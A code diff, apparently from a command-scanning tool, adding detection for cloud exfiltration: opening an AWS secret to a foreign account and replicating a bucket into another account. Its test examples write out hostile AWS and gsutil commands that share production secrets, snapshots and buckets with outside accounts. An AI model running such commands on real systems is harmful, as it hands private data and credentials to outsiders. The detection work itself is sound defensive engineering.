@@ -910,6 +910,22 @@ const onlyEmptyLine = (f: Flow) => f.sources.every((s) => s.kind === 'output') &
 const DROP_KINDS: ReadonlySet<HostKind> = new Set(['paste', 'webhook', 'file-drop', 'oast', 'onion', 'raw-ip', 'dynamic-dns']);
 const NETWORK_SEND = new Set(['POST', 'PUT', 'PATCH']);
 
+/** A secret's resource policy that lets a whole account, or anyone, read it (`"Principal": {"AWS": "arn:aws:iam::…:root"}`). */
+function secretOpenedToAccount(a: string[]): boolean {
+  if (!a.includes('secretsmanager') || !a.includes('put-resource-policy')) return false;
+  const policy = optionValue(a, ['--resource-policy']) ?? '';
+  return policy.length < 16384 && /"AWS"\s*:\s*(?:\[\s*)?"(?:\*|arn:aws:iam::\d{12}:root|\d{12})"|"Principal"\s*:\s*"\*"/.test(policy) && /GetSecretValue|secretsmanager:\*|"\*"/.test(policy);
+}
+
+/** A bucket's replication into storage of another account than the one whose role replicates it. */
+function replicatedToAnotherAccount(a: string[]): boolean {
+  if (!a.includes('put-bucket-replication')) return false;
+  const config = optionValue(a, ['--replication-configuration']) ?? '';
+  if (config.length > 16384) return false;
+  const own = /"Role"\s*:\s*"arn:aws:iam::(\d{12}):/.exec(config)?.[1];
+  return [...config.matchAll(/"Account"\s*:\s*"(\d{12})"/g)].some((m) => m[1] !== own);
+}
+
 /** A DNS name carrying an unresolved label in front of a static domain: `$(id).x.evil.io`, `$l.t.evil.io`. */
 function dataInName(cmd: SimpleCommand): string | undefined {
   for (let i = 1; i < cmd.argv.length; i++) {
@@ -1159,14 +1175,14 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-EXFIL-012', name: 'shares-cloud-data-with-another-account', score: 80, tactic: 'exfiltration', technique: 'T1537',
-    message: 'Shares a snapshot, image or bucket with another cloud account', why: 'Granting a foreign account access to a disk snapshot or image hands over the data without any download to notice.',
+    message: 'Shares a snapshot, image, bucket or secret with another cloud account', why: 'Granting a foreign account access to a disk snapshot, an image or a secret, or replicating a bucket into its storage, hands over the data without any download to notice.',
     commands: ['aws', 'gcloud', 'gsutil', 'az'],
     test: (c) => {
       const a = c.argv;
-      const share = (c.name === 'aws' && a.some((w) => /^modify-(snapshot|image|db-snapshot|db-cluster-snapshot)-attribute$/.test(w)) && a.some((w) => w === '--user-ids' || w === '--values-to-add' || /createVolumePermission|launchPermission|Add=/.test(w))) || copiesBetweenBuckets(c);
+      const share = (c.name === 'aws' && a.some((w) => /^modify-(snapshot|image|db-snapshot|db-cluster-snapshot)-attribute$/.test(w)) && a.some((w) => w === '--user-ids' || w === '--values-to-add' || /createVolumePermission|launchPermission|Add=/.test(w))) || copiesBetweenBuckets(c) || (c.name === 'aws' && (secretOpenedToAccount(a) || replicatedToAnotherAccount(a)));
       return share ? a.join(' ') : undefined;
     },
-    examples: { fire: ['aws ec2 modify-snapshot-attribute --snapshot-id snap-0abc --attribute createVolumePermission --operation-type add --user-ids 999988887777', 'aws rds modify-db-snapshot-attribute --db-snapshot-identifier prod --attribute-name restore --values-to-add 999988887777', 'aws s3 sync s3://acme-prod-data s3://other-bucket-zz91', 'gsutil -m cp -r gs://acme-prod-bq-exports gs://drop-bucket-7731-archive/', 'gcloud storage rsync -r gs://acme-prod gs://copy-9921'], quiet: ['aws s3 sync s3://acme-staging-assets/v2/ s3://acme-prod-assets/v2/', 'aws ec2 describe-snapshots --owner-ids self', 'gsutil -m cp -r gs://acme-builds/v1.2 ./dist', 'gsutil cp gs://acme-builds/app.tgz gs://acme-builds/latest/app.tgz', 'aws s3 sync s3://acme-prod-data/reports ./reports', 'aws s3 sync dist/ s3://acme-site'] },
+    examples: { fire: [`aws secretsmanager put-resource-policy --secret-id prod/payments/stripe --resource-policy '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::913524718806:root"},"Action":"secretsmanager:GetSecretValue","Resource":"*"}]}'`, `aws s3api put-bucket-replication --bucket prod-backups --replication-configuration '{"Role":"arn:aws:iam::482913300117:role/s3-replication","Rules":[{"Status":"Enabled","Destination":{"Bucket":"arn:aws:s3:::dr-offsite","Account":"913524718806"}}]}'`, 'aws ec2 modify-snapshot-attribute --snapshot-id snap-0abc --attribute createVolumePermission --operation-type add --user-ids 999988887777', 'aws rds modify-db-snapshot-attribute --db-snapshot-identifier prod --attribute-name restore --values-to-add 999988887777', 'aws s3 sync s3://acme-prod-data s3://other-bucket-zz91', 'gsutil -m cp -r gs://acme-prod-bq-exports gs://drop-bucket-7731-archive/', 'gcloud storage rsync -r gs://acme-prod gs://copy-9921'], quiet: [`aws secretsmanager put-resource-policy --secret-id prod/db --resource-policy '{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::482913300117:role/orders-api"},"Action":"secretsmanager:GetSecretValue","Resource":"*"}]}'`, `aws s3api put-bucket-replication --bucket prod-backups --replication-configuration '{"Role":"arn:aws:iam::482913300117:role/s3-replication","Rules":[{"Status":"Enabled","Destination":{"Bucket":"arn:aws:s3:::prod-backups-dr","Account":"482913300117"}}]}'`, 'aws s3 sync s3://acme-staging-assets/v2/ s3://acme-prod-assets/v2/', 'aws ec2 describe-snapshots --owner-ids self', 'gsutil -m cp -r gs://acme-builds/v1.2 ./dist', 'gsutil cp gs://acme-builds/app.tgz gs://acme-builds/latest/app.tgz', 'aws s3 sync s3://acme-prod-data/reports ./reports', 'aws s3 sync dist/ s3://acme-site'] },
   },
   {
     id: 'PX-EXFIL-013', name: 'pushes-repository-to-new-remote', score: 60, tactic: 'exfiltration', technique: 'T1567.001',
